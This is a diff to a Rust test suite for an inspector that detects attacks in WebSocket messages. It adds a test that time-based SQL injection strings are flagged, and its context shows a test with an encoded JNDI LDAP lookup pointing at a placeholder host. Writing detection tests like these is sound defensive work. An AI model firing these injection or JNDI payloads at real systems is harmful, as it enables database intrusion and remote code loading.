@@ -158,6 +158,17 @@ fn one_finding_of_a_signal_however_often_it_comes() {
 }
 
 #[test]
+fn what_nobody_was_asked_about_is_not_harmless_in_the_next_message() {
+    let settings = Settings { mode: Mode::Log, ..Settings::default() };
+    let mut inspector = Inspector::default();
+    // When the second comes SQLI is certain, and is not asked again.
+    for message in [r#"["1' and sleep(5)#","2' and sleep(5)#"]"#, r#"["2' and sleep(5)#"]"#] {
+        let findings = inspector.inspect(&settings, Opcode::Text, message.as_bytes());
+        assert!(findings.iter().any(|finding| finding.signal == Signal::Sqli), "{message}");
+    }
+}
+
+#[test]
 fn finds_an_attack_in_any_piece_of_a_long_value() {
     for before in [10, PIECE - 40, PIECE, 3 * PIECE] {
         let value = format!("{} %24%7bjndi:ldap://host.example/a}}", "lorem ipsum".repeat(before / 11));
